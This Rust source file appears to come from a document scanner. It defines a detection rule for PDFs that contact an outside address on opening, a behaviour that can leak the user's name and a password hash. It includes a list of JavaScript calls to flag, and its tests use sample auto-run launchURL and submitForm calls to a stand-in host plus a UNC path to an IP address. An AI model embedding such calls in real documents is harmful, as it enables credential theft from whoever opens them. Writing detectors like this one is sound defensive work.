//! A PDF that leads to an address as soon as it, or a page of it, is shown. Nobody sees where before it happens, and a
//! file server is sent the name of the user and a proof of the password.

use super::pdf_javascript_runs_on_open::{runs_by, scripts};
use super::{Check, Heuristic, externals};
use crate::artifact::Tree;
use crate::detect::Strength;
use crate::detect::outside::Place;

pub(super) const RULE: Heuristic = Heuristic {
    id: "pdf-opens-address",
    strength: Strength::Medium,
    title_en: "The PDF leads to an address as soon as it is opened",
    title_ja: "PDFを開くだけで、外部のアドレスに接続しようとします",
    attack: &["T1204.002", "T1187", "T1566.002"],
    page: include_str!("../../../docs/rules/pdf-opens-address.md"),
    check,
};

fn check(tree: &Tree, hit: &mut Check) {
    for (artifact, relation, target) in externals(tree) {
        if relation == "opens-by-itself" && Place::of(target).is_foreign() {
            hit(artifact.id, target.to_string());
        }
    }
    for script in scripts(tree) {
        let text = String::from_utf8_lossy(&script.bytes);
        // What stands at the level of the document defines functions, which run later or never.
        let runs = runs_by(script).is_some_and(|by| by != "Names" || !text.contains("function"));
        let call = CALLS.iter().find(|call| text.to_ascii_lowercase().contains(**call));
        if let Some(call) = call.filter(|_| runs && text.contains("://")) {
            hit(script.id, format!("{}: {call}", script.name));
        }
    }
}

/// Calls that lead out of the document, in lower case.
const CALLS: &[&str] = &["app.launchurl(", ".geturl(", ".submitform("];

#[cfg(test)]
mod tests {
    use super::super::tests::externals as hits;
    use super::*;

    #[test]
    fn addresses_of_strangers_hit() {
        let strange = ["https://a.example/x", "\\\\203.0.113.9\\x\\a.pdf", "http://203.0.113.9/"];
        assert_eq!(hits(check, "opens-by-itself", &strange), strange.len());
        assert_eq!(
            hits(check, "opens-by-itself", &["chapter2.pdf", "mailto:a@a.example", "\\\\server\\a.pdf"]),
            0
        );
        assert_eq!(hits(check, "uri", &strange), 0);
    }

    #[test]
    fn scripts_that_lead_out_at_once_hit() {
        let run = |script: &str, runs| {
            super::super::pdf_javascript_runs_on_open::tests::hits(&RULE, script, runs).len()
        };
        assert_eq!(run("app.launchURL('https://a.example/x', true);", true), 1);
        assert_eq!(run("this.submitForm({cURL: 'https://a.example/x'});", true), 1);
        assert_eq!(run("app.launchURL('https://a.example/x', true);", false), 0);
        assert_eq!(run("this.print(); app.alert('https://a.example');", true), 0);
    }
}
